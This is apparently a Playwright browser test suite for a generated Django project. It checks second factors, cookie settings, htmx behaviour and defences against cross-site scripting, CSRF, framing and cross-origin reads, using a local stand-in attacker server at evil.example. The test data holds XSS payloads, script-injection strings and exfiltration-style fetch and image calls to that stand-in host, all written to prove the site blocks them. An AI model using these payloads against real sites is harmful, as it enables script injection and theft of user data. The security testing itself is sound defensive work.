"""A generated project in a real browser: Chromium, over HTTPS, in production's settings.

A second server, under the names of other sites, plays the attacker.
"""

import re
import ssl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import httpx
import pytest
import trustme
from browser import (
    PROFILE,
    chromium,
    code_of,
    complaints_in,
    press,
    recovery_codes,
    sign_in,
    tab,
    type_credentials,
)
from generated import installed
from playwright.sync_api import Browser, CDPSession, Page, expect
from served import Gunicorn, Site, caddy, gunicorn, prepare

pytestmark = pytest.mark.slow

LISTED, EVIL = "https://a.example", "https://evil.example"  # the first in cors_allowed_origins
# Each would set `window.owned`.
PAYLOADS = [
    "<script>window.owned = 1</script>",
    '"><img src=x onerror="window.owned = 1">',
    "<svg/onload=window.owned=1>",
    '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
    "</title></style></textarea><script>window.owned = 1</script>",
]


WITH_HTMX = pytest.param(
    "django52-sqlite", marks=pytest.mark.xdist_group("browser-django52-sqlite")
)
with_htmx = pytest.mark.parametrize("server", [WITH_HTMX], indirect=True)


class Attacker(ThreadingHTTPServer):
    """Answers every address of every host over TLS with `page`, which a test sets."""

    page = ""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), AttackersPage)
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        trustme.CA().issue_cert("evil.example", "a.example").configure_cert(context)
        self.socket = context.wrap_socket(self.socket, server_side=True)


class AttackersPage(BaseHTTPRequestHandler):
    """The page of the moment."""

    def do_GET(self) -> None:
        """Answer with it."""
        assert isinstance(self.server, Attacker)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.page.encode())

    def log_message(self, *arguments: object) -> None:
        """Keep silent."""


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    """The attacker's server."""
    with Attacker() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(
    scope="module",
    params=[
        pytest.param(name, marks=pytest.mark.xdist_group(f"browser-{name}"))
        for name in ("django61-sqlite", "django52-sqlite")
    ],
)
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Gunicorn]:
    """The project under gunicorn, on each Django; on one of them with htmx."""
    folder = tmp_path_factory.mktemp(request.param)
    frontend = "htmx" if request.param in WITH_HTMX.values else "plain"
    project = installed(request.param, folder, frontend=frontend, mfa="optional")
    prepare(project)
    variables = {"TRUSTED_PROXY_COUNT": "1", "CORS_ALLOWED_ORIGINS": LISTED}
    with gunicorn(project, folder / "gunicorn", **variables) as server:
        yield server


@pytest.fixture(scope="module")
def site(server: Gunicorn, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The project behind Caddy."""
    folder = tmp_path_factory.mktemp("caddy") / "proxy"
    with caddy(server.project, server.port, folder) as site:
        yield site


@pytest.fixture(scope="module")
def browser(site: Site, attacker: Attacker) -> Iterator[Browser]:
    """Chromium, for which the site and the attacker are where their names say."""
    others = dict.fromkeys(["evil.example:443", "a.example:443"], attacker.server_port)
    with chromium(site, others) as browser:
        yield browser


@pytest.fixture
def page(browser: Browser, site: Site) -> Iterator[Page]:
    """A tab of a browser that was never used."""
    with tab(browser, site) as page:
        yield page


@pytest.fixture
def complaints(page: Page) -> list[str]:
    """What the browser complains of, in this tab and those that it opens."""
    return complaints_in(page)


def is_owned(page: Page) -> bool:
    """Whether a payload ran."""
    return bool(page.evaluate("window.owned === 1"))


# What a browser has to bear


def test_every_page_works_without_a_complaint(page: Page, complaints: list[str]) -> None:
    for path in "/", "/accounts/login/", "/accounts/reset/", "/accounts/reset/done/":
        page.goto(path)
    sign_in(page, "root")
    for path in "/", "/accounts/profile/", "/accounts/people/?q=a", "/accounts/password/":
        page.goto(path)
        assert page.evaluate("getComputedStyle(document.body).display") == "flex"  # our own style
    page.goto("/accounts/profile/")
    page.get_by_label("First name").fill("Ada")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Your profile is saved.")).to_be_visible()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("link", name="Sign in").first).to_be_visible()
    assert not complaints


@pytest.mark.parametrize("path", ["/no/such/page", "/accounts/people/"])
def test_a_refusal_looks_as_it_should(page: Page, complaints: list[str], path: str) -> None:
    sign_in(page, "alice")
    page.goto(path)
    assert page.evaluate("getComputedStyle(document.body).display") == "flex"
    assert all("Failed to load resource: the server responded" in each for each in complaints)


def test_the_whole_admin_works_without_a_complaint(
    page: Page, server: Gunicorn, complaints: list[str]
) -> None:
    sign_in(page, "root")
    seen, ahead = set(), [server.admin]
    while ahead:
        page.goto(ahead.pop())
        links = page.eval_on_selector_all("a[href]", "links => links.map(link => link.href)")
        paths = {httpx.URL(link).path for link in links if not link.endswith("/logout/")}
        new = {path for path in paths if path.startswith(server.admin)} - seen
        seen |= new
        ahead += sorted(new)
    assert {f"{server.admin}{end}" for end in ("accounts/user/", "auth/group/add/")} <= seen
    assert not complaints


def test_the_admins_scripts_do_their_work(
    page: Page, server: Gunicorn, complaints: list[str]
) -> None:
    sign_in(page, "root")
    page.goto(f"{server.admin}accounts/user/")
    page.get_by_role("link", name="alice", exact=True).click()
    # The calendar and the clock, a list to choose from, and a window that gives back what it made.
    for shortcut in "Today", "Now":
        page.locator(".datetimeshortcuts a", has_text=shortcut).first.click()
    expect(page.locator("#id_last_login_0")).to_have_value(re.compile(r"^\d{4}-\d\d-\d\d$"))
    page.locator("#id_user_permissions_from option").first.dblclick()
    expect(page.locator("#id_user_permissions_to option")).to_have_count(1)
    with page.expect_popup() as opened:
        page.locator("#add_id_groups").click()
    opened.value.get_by_label("Name").fill("Editors")
    opened.value.get_by_role("button", name="Save").click()
    expect(page.locator("#id_groups_to option")).to_have_text(["Editors"])
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_text("was changed successfully")).to_be_visible()
    # Several at once.
    page.goto(f"{server.admin}auth/group/")
    page.locator("#action-toggle").check()
    page.locator("select[name=action]").select_option("delete_selected")
    page.get_by_role("button", name=re.compile("Go|Run")).click()
    page.get_by_role("button", name="Yes, I’m sure").click()
    expect(page.get_by_text("Successfully deleted 1 group.")).to_be_visible()
    assert not complaints


def test_the_cookies_are_as_named(page: Page, site: Site) -> None:
    sign_in(page, "alice")
    cookies = page.context.cookies()
    assert {cookie["name"] for cookie in cookies} == {"__Host-session", "__Host-csrf"}
    for cookie in cookies:
        assert (cookie["domain"], cookie["path"]) == (site.domain, "/")
        assert cookie["secure"]
        assert cookie["httpOnly"]
        assert cookie["sameSite"] == "Lax"
    assert page.evaluate("document.cookie") == ""


def test_plain_http_ends_at_https(page: Page, site: Site) -> None:
    page.goto(f"http://{site.domain}/accounts/login/")
    assert page.evaluate("location.protocol") == "https:"


# Second factors


def type_password(page: Page) -> None:
    """Sign in as Alice as far as the password goes; nothing else opens then."""
    page.get_by_role("button", name="Sign out").click()
    page.goto("/accounts/login/?next=/accounts/factors/")
    type_credentials(page, "alice")
    expect(page).to_have_url(re.compile("/accounts/second-factor/"))
    page.goto("/accounts/profile/")
    expect(page).to_have_url(re.compile("/accounts/second-factor/"))


def remove_factor(page: Page) -> None:
    """Remove Alice's factor, for those who come after."""
    page.goto("/accounts/factors/")
    page.get_by_role("link", name="Remove it").click()
    press(page, "Remove it")
    expect(page.get_by_text("nobody signs in as you by your password alone")).to_be_visible()


@pytest.fixture
def device(page: Page) -> CDPSession:
    """The browser's own device for passkeys, which says yes to all that it is asked."""
    session = page.context.new_cdp_session(page)
    session.send("WebAuthn.enable")
    options = {
        "protocol": "ctap2",
        "transport": "internal",
        "hasResidentKey": True,
        "hasUserVerification": True,
        "isUserVerified": True,
    }
    session.send("WebAuthn.addVirtualAuthenticator", {"options": options})
    return session


@pytest.mark.usefixtures("device")
def test_a_passkey_is_set_up_and_signs_in(page: Page, complaints: list[str]) -> None:
    sign_in(page, "alice")
    page.goto("/accounts/factors/")
    page.get_by_role("link", name="Add a passkey").click()
    press(page, "Add it")
    assert len(recovery_codes(page)) == 10
    type_password(page)
    press(page, "Use a passkey")
    expect(page).to_have_url(PROFILE)
    remove_factor(page)
    assert not complaints


def test_a_browser_without_the_passkey_says_so(page: Page, device: CDPSession) -> None:
    sign_in(page, "alice")
    page.goto("/accounts/factors/passkey/")
    press(page, "Add it")
    code = recovery_codes(page)[0]
    device.send("WebAuthn.disable")
    device.send("WebAuthn.enable")
    options = {"protocol": "u2f", "transport": "usb"}
    device.send("WebAuthn.addVirtualAuthenticator", {"options": options})
    type_password(page)
    press(page, "Use a passkey")
    expect(page.get_by_text("The browser gave no passkey")).to_be_visible()
    page.get_by_label("Code").fill(code)
    press(page, "Go on")
    expect(page).to_have_url(PROFILE)
    remove_factor(page)


def test_an_app_is_set_up_and_signs_in(page: Page, complaints: list[str]) -> None:
    sign_in(page, "alice")
    page.goto("/accounts/factors/app/")
    secret = page.locator("code").inner_text()
    assert page.evaluate("document.querySelector('main img').naturalWidth") > 100
    page.get_by_label("Code").fill("000000")
    press(page, "Add it")
    expect(page.get_by_text("That was not right.")).to_be_visible()
    code = code_of(secret)
    page.get_by_label("Code").fill(code)
    press(page, "Add it")
    recovery_code = recovery_codes(page)[0]
    type_password(page)
    page.get_by_label("Code").fill(code)  # which set it up
    press(page, "Go on")
    expect(page.get_by_text("That was not right.")).to_be_visible()
    page.get_by_label("Code").fill(recovery_code)
    press(page, "Go on")
    expect(page).to_have_url(PROFILE)
    remove_factor(page)
    assert not complaints


# Scripts


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_would_own_a_page_that_lets_it(
    page: Page, attacker: Attacker, payload: str
) -> None:
    attacker.page = f'<input value="">{payload}'
    page.goto(EVIL)
    page.wait_for_function("window.owned === 1")


def test_stored_script_is_inert(page: Page, server: Gunicorn) -> None:
    sign_in(page, "root")
    users = f"{server.admin}accounts/user/"
    for payload in PAYLOADS:
        page.goto("/accounts/profile/")
        page.get_by_label("First name").fill(payload)
        page.get_by_label("Last name").fill(payload)
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_text("Your profile is saved.")).to_be_visible()
        expect(page.get_by_label("First name")).to_have_value(payload)
        for path in "/", "/accounts/people/?q=root", users, f"{users}2/change/":
            page.goto(path)
            assert not is_owned(page)


def test_reflected_script_is_inert(page: Page, server: Gunicorn) -> None:
    sign_in(page, "root")
    for payload in map(quote, PAYLOADS):
        for path in (
            f"/accounts/people/?q={payload}",
            f"/{payload}",
            f"/accounts/login/?next={payload}",
            f"{server.admin}accounts/user/?q={payload}",
        ):
            page.goto(path)
            assert not is_owned(page)


INJECTED = {
    "an inline script": "element('script').textContent = 'window.owned = 1'",
    "a foreign script": f"element('script').src = '{EVIL}/owned.js'",
    "a handler": "element('button', {onclick: 'window.owned = 1'}).click()",
    "a text that is run": "setTimeout('window.owned = 1')",
    "eval": "element('script').text = \"eval('window.owned = 1')\"",
    "a script URL": "element('a', {href: 'javascript:window.owned = 1'}).click()",
    "a data URL": "element('script').src = 'data:text/javascript,window.owned = 1'",
    "a foreign frame": f"element('iframe').src = '{EVIL}'",
    "a foreign form": f"element('form', {{action: '{EVIL}', method: 'post'}}).submit()",
    "a foreign image": f"element('img').src = '{EVIL}/?stolen'",
    "a foreign address": f"fetch('{EVIL}/?stolen').catch(() => 0)",
    "a foreign base": f"element('base').href = '{EVIL}'",
    "an inline style": "element('style').textContent = 'body { color: red }'",
}
ELEMENT = """
addEventListener('securitypolicyviolation', event => {
    console.info(`${event.effectiveDirective} was violated`);
});
window.element = (name, attributes = {}) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return document.body.appendChild(made);
};
"""


@pytest.mark.parametrize("code", INJECTED.values(), ids=INJECTED)
@pytest.mark.parametrize("path", ["/", "admin"])
def test_what_is_injected_all_the_same_is_blocked(
    page: Page, server: Gunicorn, attacker: Attacker, path: str, code: str
) -> None:
    attacker.page = "window.owned = 1"
    page.goto(server.admin if path == "admin" else path)
    page.evaluate(ELEMENT)
    # Not by wait_for_function, which the policy may take for an eval of the page's own.
    with page.expect_console_message(lambda message: "was violated" in message.text):
        page.evaluate(f"() => {{ {code} }}")
    assert not is_owned(page)


# Other sites


def test_a_frame_in_another_site_stays_blank(page: Page, site: Site, attacker: Attacker) -> None:
    attacker.page = f'<iframe id="site" src="https://{site.domain}/"></iframe>'
    page.goto(EVIL)
    page.wait_for_load_state("networkidle")
    frame = page.frames[1]
    assert frame.url.startswith("chrome-error:")
    assert frame.locator("h1", has_text='O"Brien').count() == 0


def test_a_frame_would_show_a_site_that_lets_it(page: Page, attacker: Attacker) -> None:
    attacker.page = f'<p>framed</p><script>if (top === self) document.body.innerHTML += "<iframe src={LISTED}>"</script>'
    page.goto(EVIL)
    expect(page.frame_locator("iframe").get_by_text("framed")).to_be_visible()


READ = "url => fetch(url).then(answer => answer.text(), error => String(error))"


@pytest.mark.parametrize("path", ["/healthz", "/", "/.well-known/security.txt"])
def test_a_listed_origin_reads_and_another_does_not(
    page: Page, site: Site, attacker: Attacker, path: str
) -> None:
    attacker.page = "<p>a page</p>"
    page.goto(EVIL)
    assert page.evaluate(READ, f"https://{site.domain}{path}") == "TypeError: Failed to fetch"
    page.goto(LISTED)
    assert len(page.evaluate(READ, f"https://{site.domain}{path}")) >= len("ok\n")
    assert "TypeError" not in page.evaluate(READ, f"https://{site.domain}{path}")


def test_a_listed_origin_is_a_stranger_all_the_same(
    page: Page, site: Site, attacker: Attacker
) -> None:
    sign_in(page, "alice")
    attacker.page = "<p>a page</p>"
    page.goto(LISTED)
    with_cookies = "url => fetch(url, {credentials: 'include'}).then(() => 'read', String)"
    address = f"https://{site.domain}/healthz"
    assert page.evaluate(with_cookies, address) == "TypeError: Failed to fetch"


@pytest.mark.parametrize("origin", [EVIL, LISTED])
def test_a_form_of_another_site_changes_nothing(
    page: Page, site: Site, attacker: Attacker, origin: str
) -> None:
    sign_in(page, "alice")
    attacker.page = f"""
        <form method="post" action="https://{site.domain}/accounts/profile/">
        <input name="first_name" value="Mallory"><button>Win a prize</button></form>"""
    page.goto(origin)
    page.get_by_role("button").click()
    expect(page.get_by_role("heading")).to_have_text("The form could not be checked")
    page.goto("/accounts/profile/")
    expect(page.get_by_label("First name")).not_to_have_value("Mallory")


def test_a_link_of_another_site_signs_nobody_out(
    page: Page, site: Site, attacker: Attacker
) -> None:
    sign_in(page, "alice")
    attacker.page = f'<a href="https://{site.domain}/accounts/logout/">A prize</a>'
    page.goto(EVIL)
    with page.expect_response(f"https://{site.domain}/accounts/logout/") as answer:
        page.get_by_role("link").click()
    assert answer.value.status == 405
    page.goto("/accounts/profile/")
    expect(page.get_by_label("First name")).to_be_visible()


# htmx


def search(page: Page, text: str) -> None:
    """Type into the search for people."""
    page.get_by_label("Name, username or email").press_sequentially(text)


@with_htmx
def test_the_search_fetches_what_it_finds_while_one_types(
    page: Page, complaints: list[str]
) -> None:
    sign_in(page, "root")
    page.goto("/accounts/people/")
    assert page.get_by_role("row").count() > 2
    page.evaluate("window.stays = 1")
    search(page, "alic")
    expect(page.get_by_role("row")).to_have_count(2)
    expect(page).to_have_url(re.compile(r"/accounts/people/\?q=alic$"))
    assert page.evaluate("window.stays") == 1  # it is the same page
    search(page, "zzz")
    expect(page.get_by_text("Nobody matches “aliczzz”.")).to_be_visible()
    stored = page.evaluate("Object.entries({...localStorage, ...sessionStorage}).join()")
    assert "alice@" not in stored
    assert "<" not in stored
    page.reload()
    expect(page.get_by_role("heading", name="People")).to_be_visible()
    assert not complaints


@with_htmx
def test_the_search_works_without_scripts(browser: Browser, site: Site) -> None:
    with tab(browser, site, java_script_enabled=False) as page:
        sign_in(page, "root")
        page.goto("/accounts/people/")
        search(page, "alic")
        page.get_by_role("button", name="Search").click()
        expect(page.get_by_role("row")).to_have_count(2)


@with_htmx
def test_when_the_session_has_ended_the_whole_page_signs_in(page: Page) -> None:
    sign_in(page, "root")
    page.goto("/accounts/people/")
    page.context.clear_cookies()
    search(page, "alic")
    expect(page).to_have_url(re.compile(r"/accounts/login/\?next=/accounts/people/%3Fq%3Dalic$"))
    expect(page.get_by_role("heading")).to_have_text("Sign in")
    type_credentials(page, "root")
    expect(page.get_by_role("row")).to_have_count(2)


@with_htmx
def test_htmx_asks_no_other_site(page: Page) -> None:
    page.goto("/")
    with page.expect_console_message(lambda message: "htmx:invalidPath" in message.text):
        page.evaluate(f"() => {{ htmx.ajax('GET', '{EVIL}') }}")


INERT_WITH_HTMX = {
    "a handler": "hx-on:click='window.owned = 1'",
    "a value": "hx-get='/' hx-vals='js:{a: window.owned = 1}'",
    "a filter": "hx-get='/' hx-trigger='click[window.owned = 1]'",
}


@with_htmx
@pytest.mark.parametrize("attributes", INERT_WITH_HTMX.values(), ids=INERT_WITH_HTMX)
def test_htmx_runs_no_text(page: Page, attributes: str) -> None:
    page.goto("/")
    inject = f"""() => {{
        document.body.insertAdjacentHTML("beforeend", `<button id="it" {attributes}>It</button>`);
        htmx.process(document.body);
        document.getElementById("it").click();
    }}"""
    with page.expect_console_message(lambda message: "htmx:evalDisallowedError" in message.text):
        page.evaluate(inject)
    assert not is_owned(page)


@with_htmx
def test_another_file_in_the_place_of_htmx_does_not_run(page: Page) -> None:
    page.route("**/vendor/htmx.*", lambda route: route.fulfill(body="window.owned = 1"))
    with page.expect_console_message(lambda message: "integrity" in message.text):
        page.goto("/")
    assert not is_owned(page)
    page.unroute("**/vendor/htmx.*")
    page.goto("/")
    assert page.evaluate("typeof htmx") == "object"
